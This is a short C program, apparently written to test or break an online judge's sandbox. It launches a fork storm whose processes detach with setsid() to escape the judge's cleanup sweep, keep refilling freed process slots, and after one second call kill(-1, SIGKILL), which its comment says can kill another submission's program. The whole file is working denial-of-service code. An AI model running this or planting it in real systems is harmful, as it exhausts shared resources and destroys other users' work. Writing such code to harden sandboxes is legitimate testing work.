/* Trick: a fork storm that leaves the tree and outlives the judge's sweep. Every process of it setsid()s
 * and forks again as soon as a process slot is free, so a sweep that kills the processes it found refills
 * as fast as it kills; after a second each one also calls kill(-1, SIGKILL): one survivor then kills every
 * process its uid may signal (in a fallback where all programs run as one user: the next submission's
 * program). Bounded by the judge's process limit and by STORM (default 64) first children. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#ifndef STORM
#define STORM 64
#endif

static void storm(time_t start) {
    for (;;) {
        if (time(NULL) - start >= 1) kill(-1, SIGKILL);
        pid_t child = fork();
        if (child == 0) setsid();
        else if (child < 0) usleep(1000);
    }
}

int main(void) {
    time_t start = time(NULL);
    for (int i = 0; i < STORM; ++i) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) {
            setsid();
            if (fork() == 0) storm(start);
            _exit(0);
        }
    }
    return 0;
}
